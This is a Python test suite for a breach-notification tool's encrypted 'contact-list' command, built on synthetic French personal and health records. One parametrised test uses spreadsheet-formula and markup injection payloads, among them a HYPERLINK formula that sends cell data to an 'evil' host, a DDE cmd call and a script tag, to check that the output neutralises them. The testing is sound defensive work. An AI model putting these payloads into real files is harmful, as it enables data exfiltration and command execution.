"""`contact-list`: one line per person with one channel, encrypted; no number, no theme, and no clear text anywhere."""

from __future__ import annotations

import csv
import json
import re
import stat
from io import StringIO
from pathlib import Path
from typing import TYPE_CHECKING, Any

import polars as pl
import pytest

from leakscan.age import _Pieces
from leakscan.cli.app import run
from leakscan.custody.chain import read_chain
from leakscan.detectors.nir import key_of
from leakscan.mailing import CHANNELS, FIELDS
from leakscan.options import ScanOptions
from leakscan.reach import NUMBER
from leakscan.report import build_report
from leakscan.scan import scan

pyrage = pytest.importorskip("pyrage")

if TYPE_CHECKING:
    from collections.abc import Callable, Mapping

SAMPLES = Path(__file__).parent.parent / "samples"
HEADER = "NIR;NOM;PRENOM;DATE_NAISSANCE;EMAIL;TELEPHONE;ADRESSE;CODE_POSTAL;VILLE;COMMENTAIRE"


def nir(body: str) -> str:
    return body + f"{pl.DataFrame({'n': [body]}).select(key_of(pl.col('n'))).item():02d}"


def row(at: int, **cells: str) -> str:
    """A person of a table: everything of one is of nobody else."""
    letters = "".join(chr(65 + int(digit)) for digit in f"{at:03d}")
    told = {
        "NIR": nir(f"1{50 + at % 40:02d}03750{at:02d}{at:03d}"[:13]),
        "NOM": f"MARTIN{letters}",
        "PRENOM": f"PIERRE{letters}",
        "DATE_NAISSANCE": f"{1 + at % 28:02d}/03/19{50 + at % 40:02d}",
        "EMAIL": f"p{at}.m@example.org",
        "TELEPHONE": f"06 39 98 {at // 100:02d} {at % 100:02d}",
        "ADRESSE": f"{at + 1} rue des Lilas",
        "CODE_POSTAL": "69003",
        "VILLE": "LYON",
        "COMMENTAIRE": "VIH positif sous Biktarvy, cancer du sein, grossesse",
        **cells,
    }
    return ";".join(told[name] for name in HEADER.split(";"))


def table(folder: Path, name: str, *rows: str, count: int = 30) -> Path:
    file = folder / name
    file.write_text("\n".join([HEADER, *rows, *(row(at) for at in range(40, 40 + count))]) + "\n", encoding="utf-8")
    return file


@pytest.fixture
def identity() -> Any:
    return pyrage.x25519.Identity.generate()


@pytest.fixture
def asked(tmp_path: Path, identity: Any) -> Callable[..., tuple[int, list[dict[str, str]], list[dict[str, Any]]]]:
    """Run the command: exit code, lines of the list, lines of the log."""
    for folder in ("out", "log", "keys"):
        (tmp_path / folder).mkdir()

    def ask(*inputs: Path, **options: str) -> tuple[int, list[dict[str, str]], list[dict[str, Any]]]:
        given = {
            "--recipient": str(identity.to_public()), "--out": str(tmp_path / "out" / "list.age"),
            "--purpose": "Information des personnes (art. 34)", "--operator": "Cellule de crise",
            "--evidence-log": str(tmp_path / "log" / "log.jsonl"), "--signing-key": str(tmp_path / "keys" / "key"),
            **{f"--{name.replace('_', '-')}": value for name, value in options.items()},
        }  # fmt: skip
        code = run(["contact-list", *map(str, inputs), *(part for pair in given.items() for part in pair)])
        out, log = Path(given["--out"]), Path(given["--evidence-log"])
        lines = list(csv.DictReader(StringIO(opened(out, identity)))) if out.exists() else []
        logged = log.read_text(encoding="ascii").splitlines() if log.exists() else []
        return code, lines, [json.loads(line) for line in logged]

    return ask


def opened(file: Path, identity: Any) -> str:
    text: bytes = pyrage.decrypt(file.read_bytes(), [identity])
    return text.decode("utf-8")


def by_name(lines: list[dict[str, str]]) -> Mapping[str, dict[str, str]]:
    found = {line["name"]: line for line in lines}
    assert len(found) == len(lines)
    return found


def test_one_line_per_person_with_a_name_and_a_channel(
    asked: Callable[..., Any], tmp_path: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    file = table(
        tmp_path, "a.csv",
        row(1), row(1, EMAIL="", COMMENTAIRE="contrôle"),
        row(2, EMAIL=""), row(3, EMAIL="", TELEPHONE=""), row(4, EMAIL="", TELEPHONE="", ADRESSE=""),
        row(5, EMAIL="", TELEPHONE="", CODE_POSTAL="", VILLE=""),
    )  # fmt: skip
    code, lines, log = asked(file)
    assert code == 0
    found = by_name(lines)
    assert found["PIERREAAB MARTINAAB"] == {
        "name": "PIERREAAB MARTINAAB", "channel": "email", "contact": "p1.m@example.org", "shared": "no"
    }  # fmt: skip
    assert found["PIERREAAC MARTINAAC"]["contact"] == "06 39 98 00 02"
    assert found["PIERREAAD MARTINAAD"]["contact"] == "4 RUE DES LILAS, 69003 LYON"
    assert "PIERREAAE MARTINAAE" not in found
    assert "PIERREAAF MARTINAAF" not in found, "a street without a town reaches nobody"
    said = capfd.readouterr()
    assert said.out == ""
    assert "2 of 35 people have no channel" in said.err
    assert "33 people in" in said.err
    assert "MARTIN" not in said.err
    written = next(line for line in log if line["kind"] == "contact_list_written")
    assert (written["people"], written["without_channel"]) == (35, 2)
    assert written["by_channel"] == {"email": 31, "phone": 1, "post": 1}


def test_as_many_people_as_the_report_counts(asked: Callable[..., Any]) -> None:
    inputs = [SAMPLES / "lab60_cp1252.csv", SAMPLES / "letters", SAMPLES / "intl_utf8.csv"]
    code, lines, log = asked(*inputs)
    assert code == 0
    options = ScanOptions(contacts=True)
    report = build_report(scan([str(file) for file in inputs], options), options)
    written = next(line for line in log if line["kind"] == "contact_list_written")
    # every scan has a key of its own, on which a few doubtful links depend
    assert abs(written["people"] - report["persons"]["likely"]) <= 3
    assert written["people"] == len(lines) + written["without_channel"]
    assert {line["channel"] for line in lines} == set(CHANNELS)
    assert sum(bool(line["name"]) for line in lines) > 0.99 * len(lines)
    assert list(lines[0]) == list(FIELDS)


def test_no_number_and_no_theme(asked: Callable[..., Any], tmp_path: Path, identity: Any) -> None:
    number = nir("1520375001001")
    spelled = f"{number[0]} {number[1:3]} {number[3:5]} {number[5:7]} {number[7:10]} {number[10:13]} {number[13:]}"
    file = table(
        tmp_path, "a.csv",
        row(1, EMAIL=f"{number}@example.org"), row(2, EMAIL=f"m-{spelled.replace(' ', '.')}@example.org", TELEPHONE=""),
        row(3, EMAIL="", TELEPHONE="", ADRESSE=f"3 rue des Lilas {spelled}"),
        row(4, NOM="MARTIN (VIH+)"), row(6, NOM="MARTIN VIH POSITIF"),
        row(7, NOM="ISLAM"), row(5, EMAIL=number, TELEPHONE="VIH positif", ADRESSE="5 rue des Lilas"),
    )  # fmt: skip
    code, lines, _ = asked(file)
    assert code == 0
    text = opened(tmp_path / "out" / "list.age", identity)
    assert not re.search(NUMBER, text)
    assert not re.search(r"\d{13}|VIH|HIV|cancer|Biktarvy|grossesse|positif", text, re.IGNORECASE)
    found = by_name(lines)
    assert found["PIERREAAB MARTINAAB"]["channel"] == "phone"
    assert found["PIERREAAC MARTINAAC"]["channel"] == "post"
    assert "PIERREAAD MARTINAAD" not in found
    assert found["PIERREAAF MARTINAAF"]["channel"] == "post"
    assert found[""]["contact"] == "p6.m@example.org"
    assert found["PIERREAAH ISLAM"]["contact"] == "p7.m@example.org"


HOSTILE = (
    '=HYPERLINK("http://evil/?"&A1)', "=cmd|' /C calc'!A0", "+1+cmd", "-2+3", "@SUM(1+1)", "\t=1", "\uff1d1+1",
    'MARTIN","x', "<script>alert(1)</script>", "\u202eNITRAM", "MARTIN\x00\x1b[2J",
)  # fmt: skip


@pytest.mark.parametrize("cell", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_cells_are_no_formula_and_break_no_line(
    cell: str, asked: Callable[..., Any], tmp_path: Path, identity: Any
) -> None:
    quoted = '"' + cell.replace('"', '""') + '"'
    mails = ("=cmd@example.org", "+1@example.org", "-1@example.org")
    file = table(
        tmp_path, "a.csv", row(1, NOM=quoted), row(2, EMAIL=quoted, PRENOM=quoted, ADRESSE=quoted),
        *(row(at, EMAIL=mail) for at, mail in enumerate(mails, 3)),
    )  # fmt: skip
    code, lines, _ = asked(file)
    assert code == 0
    assert len(lines) >= 30
    assert all(set(line) == set(FIELDS) and None not in line.values() for line in lines)
    text = opened(tmp_path / "out" / "list.age", identity)
    begins = re.compile(r"(?:^|[;,|\t\r\n])\s*[=+\-@\uff1d\uff0b\uff0d\uff20]")
    assert not [value for line in lines for value in line.values() if begins.search(value)]
    assert not [char for char in text if ord(char) < 32 and char not in "\r\n"]
    assert not set(text) & set("\u202e\u2066\ufeff")
    assert {"'+1@example.org", "'-1@example.org"} <= {line["contact"] for line in lines}


def test_a_shared_contact_is_said_and_one_of_nobody_else_is_preferred(
    asked: Callable[..., Any], tmp_path: Path
) -> None:
    family = {"EMAIL": "famille@example.org"}
    file = table(
        tmp_path, "a.csv",
        row(1, **family), row(2, **family, TELEPHONE="", ADRESSE=""), row(3, EMAIL="", TELEPHONE="06 39 98 09 09"),
        row(4, EMAIL="", TELEPHONE="06 39 98 09 09", ADRESSE=""),
    )  # fmt: skip
    _, lines, _ = asked(file)
    found = by_name(lines)
    assert (found["PIERREAAB MARTINAAB"]["channel"], found["PIERREAAB MARTINAAB"]["shared"]) == ("phone", "no")
    assert (found["PIERREAAC MARTINAAC"]["channel"], found["PIERREAAC MARTINAAC"]["shared"]) == ("email", "yes")
    assert (found["PIERREAAD MARTINAAD"]["channel"], found["PIERREAAD MARTINAAD"]["shared"]) == ("post", "no")
    assert (found["PIERREAAE MARTINAAE"]["channel"], found["PIERREAAE MARTINAAE"]["shared"]) == ("phone", "yes")


def test_a_person_in_several_files_has_one_line(asked: Callable[..., Any], tmp_path: Path) -> None:
    folder = tmp_path / "leak"
    folder.mkdir()
    table(folder, "a.csv", row(1, EMAIL="", TELEPHONE="", ADRESSE=""))
    table(folder, "b.csv", row(1))
    table(folder, "copy.csv", row(1))
    lone = HEADER.replace("EMAIL;", "")
    (folder / "c.csv").write_text(lone + "\n" + ";".join(row(2).split(";")[:4] + row(2).split(";")[5:]) + "\n")
    code, lines, _ = asked(folder)
    assert code == 0
    found = by_name(lines)
    assert len(lines) == 32
    assert found["PIERREAAB MARTINAAB"]["contact"] == "p1.m@example.org"
    assert found["PIERREAAC MARTINAAC"]["channel"] == "phone"


def test_contacts_in_running_text_are_nobodys(asked: Callable[..., Any], tmp_path: Path) -> None:
    letter = (
        "Laboratoire des Lilas, contact@labo.example.org, 04 99 00 00 01\n\nMadame Jeanne MARTIN, née le 03/03/1952\n"
        "NIR 2 52 03 75 001 001 " + nir("2520375001001")[-2:] + "\n\nSérologie VIH positive.\n"
    )
    (tmp_path / "letter.txt").write_text(letter, encoding="utf-8")
    code, lines, log = asked(tmp_path / "letter.txt")
    assert code == 0
    assert lines == []
    assert next(line for line in log if line["kind"] == "contact_list_written")["without_channel"] == 1


def test_what_no_budget_holds_is_the_same_list(asked: Callable[..., Any], tmp_path: Path) -> None:
    """Findings that go to the encrypted shelf, and sources that share a batch, change no line."""
    folder = tmp_path / "leak"
    folder.mkdir()
    for at in range(4):
        table(folder, f"{at}.csv", *(row(1 + at + extra * 4) for extra in range(5)))
    _, kept, _ = asked(folder)
    _, shelved, _ = asked(folder, memory="0", out=str(tmp_path / "out" / "b.age"), evidence_log=str(tmp_path / "b"))
    assert kept == shelved
    assert len(kept) == 50


def test_nothing_is_written_in_clear(
    asked: Callable[..., Any], tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> None:
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    monkeypatch.setenv("TMPDIR", str(scratch))
    file = table(tmp_path, "a.csv", row(1))
    code, lines, _ = asked(file, memory="0")
    assert code == 0
    assert len(lines) == 31
    out = tmp_path / "out" / "list.age"
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert out.read_bytes().startswith(b"age-encryption.org/v1\n")
    others = [path for path in tmp_path.rglob("*") if path.is_file() and path != file]
    assert {path.name for path in others} == {"list.age", "log.jsonl", "key", "key.pub"}
    seen = b"".join(path.read_bytes() for path in others) + "".join(capfd.readouterr()).encode()
    for value in ("MARTIN", "PIERRE", "p1.m@", "LILAS", "06 39"):
        assert value.encode() not in seen.replace(file.read_bytes(), b""), value


def test_the_log_says_why_and_who_and_holds(asked: Callable[..., Any], tmp_path: Path) -> None:
    file = table(tmp_path, "a.csv", row(1))
    _, lines, log = asked(file, purpose="Courrier art. 34, dossier 185057800608436", operator="A. Martin")
    kinds = [line["kind"] for line in log]
    assert kinds == [
        "begin", "before", "contact_list_asked", "contact_list_written", "scanned", "after", "end",
    ]  # fmt: skip
    said = log[2]
    assert said["operator"] == "A. Martin"
    assert said["purpose"] == "Courrier art. 34, dossier [number]"
    assert said["recipients"][0].startswith("age1")
    assert len(lines) == 31
    _, problems = read_chain((tmp_path / "log" / "log.jsonl").read_bytes())
    assert problems == []
    assert run(["verify", str(tmp_path / "log" / "log.jsonl"), "--inputs", str(file)]) == 0


@pytest.mark.parametrize(
    ("options", "says"),
    [
        ({"recipient": "age1nobody"}, "not a public key of age"),
        ({"recipient": "AGE-SECRET-KEY-1QQQ"}, "secret key"),
        ({"purpose": "  "}, "--purpose is empty"),
        ({"operator": ""}, "--operator is empty"),
        ({"out": "-"}, "not written to standard output"),
        ({"out": "missing/list.age"}, "does not exist"),
    ],
)
def test_refusals(
    options: dict[str, str], says: str, asked: Callable[..., Any], tmp_path: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    code, lines, log = asked(table(tmp_path, "a.csv"), **options)
    said = capfd.readouterr().err
    assert (code, lines, log) == (2, [], [])
    assert says in said
    assert "QQQ" not in said


@pytest.mark.parametrize("missing", ["--recipient", "--purpose", "--operator", "--out", "--evidence-log"])
def test_what_must_be_said(missing: str, tmp_path: Path, identity: Any, capfd: pytest.CaptureFixture[str]) -> None:
    given = {
        "--recipient": str(identity.to_public()), "--out": str(tmp_path / "list.age"), "--purpose": "p",
        "--operator": "o", "--evidence-log": str(tmp_path / "log"), "--signing-key": str(tmp_path / "key"),
    }  # fmt: skip
    del given[missing]
    assert run(["contact-list", str(SAMPLES), *(part for pair in given.items() for part in pair)]) == 2
    assert missing in capfd.readouterr().err
    assert list(tmp_path.iterdir()) == []


@pytest.mark.usefixtures("asked")
def test_nothing_is_written_over(tmp_path: Path, capfd: pytest.CaptureFixture[str]) -> None:
    file, out = table(tmp_path, "a.csv"), tmp_path / "out" / "list.age"
    out.write_text("kept", encoding="utf-8")
    link = tmp_path / "out" / "link"
    link.symlink_to(tmp_path / "nowhere")
    for place in (out, link, file):
        assert run([
            "contact-list", str(file), "--recipient", str(pyrage.x25519.Identity.generate().to_public()), "--out",
            str(place), "--purpose", "p", "--operator", "o", "--evidence-log", str(tmp_path / "log" / "l"),
            "--signing-key", str(tmp_path / "keys" / "k"),
        ]) == 2  # fmt: skip
    assert "exists" in capfd.readouterr().err
    assert out.read_text(encoding="utf-8") == "kept"
    assert not (tmp_path / "nowhere").exists()
    assert not (tmp_path / "log" / "l").exists()


def test_there_is_no_way_to_ask_for_a_theme(capfd: pytest.CaptureFixture[str]) -> None:
    assert run(["contact-list", "--help"]) == 0
    options = set(re.findall(r"--[a-z-]+", capfd.readouterr().out))
    assert not [option for option in options if re.search(r"theme|health|filter|where|only|nir", option)]


def test_interrupted_writes_no_list(
    asked: Callable[..., Any], tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> None:
    from dataclasses import replace

    monkeypatch.setattr("leakscan.scan.scan", lambda *given: replace(scan(*given), interrupted=True))
    code, lines, log = asked(table(tmp_path, "a.csv"))
    assert (code, lines) == (130, [])
    assert "no list was written" in capfd.readouterr().err
    assert log[-1]["kind"] != "end"


@pytest.mark.parametrize("sizes", [[1], [3, 5], [100], [-1]])
def test_pieces_are_read_as_a_stream(sizes: list[int]) -> None:
    stream, read, turn = _Pieces(iter([b"abc", b"", b"defgh", b"i"])), b"", 0
    while piece := stream.read(sizes[turn % len(sizes)]):
        read, turn = read + piece, turn + 1
    assert read == b"abcdefghi"
    assert stream.read(1) == b""
